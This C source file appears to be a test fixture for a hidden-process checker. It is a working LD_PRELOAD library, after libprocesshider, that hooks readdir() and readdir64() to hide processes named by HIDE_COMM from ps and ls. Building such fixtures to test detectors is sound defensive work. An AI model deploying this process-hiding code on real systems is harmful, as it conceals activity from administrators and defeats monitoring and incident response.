/*
 * A userspace process hider, the technique of libprocesshider
 * (gianlucaborello/libprocesshider): loaded with LD_PRELOAD, it wraps
 * readdir() and readdir64() and drops, from a listing of /proc, the
 * directory of every process whose comm is $HIDE_COMM. Programs that
 * list /proc through libc's readdir (ps, ls, unhide's ps runs) miss the
 * process; programs that call getdents64 themselves (the checker and its
 * audit) do not. Built and used by tests/audit.rs and the audit bench.
 *
 *     cc -shared -fPIC -o hide_comm.so hide_comm.c -ldl
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Whether `entry`, read from `dir`, is /proc/<pid> of a hidden process. */
static int hidden(DIR *dir, const char *entry)
{
	const char *name = getenv("HIDE_COMM");
	char path[64], target[64], comm[64];
	ssize_t len;
	FILE *file;

	if (!name || !*name || entry[0] < '1' || entry[0] > '9')
		return 0;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", dirfd(dir));
	len = readlink(path, target, sizeof(target) - 1);
	if (len < 0)
		return 0;
	target[len] = '\0';
	if (strcmp(target, "/proc") != 0)
		return 0;
	snprintf(path, sizeof(path), "/proc/%s/comm", entry);
	file = fopen(path, "r");
	if (!file)
		return 0;
	if (!fgets(comm, sizeof(comm), file))
		comm[0] = '\0';
	fclose(file);
	comm[strcspn(comm, "\n")] = '\0';
	return strcmp(comm, name) == 0;
}

struct dirent *readdir(DIR *dir)
{
	static struct dirent *(*next)(DIR *);
	struct dirent *entry;

	if (!next)
		next = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
	while ((entry = next(dir)) && hidden(dir, entry->d_name))
		;
	return entry;
}

struct dirent64 *readdir64(DIR *dir)
{
	static struct dirent64 *(*next)(DIR *);
	struct dirent64 *entry;

	if (!next)
		next = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
	while ((entry = next(dir)) && hidden(dir, entry->d_name))
		;
	return entry;
}
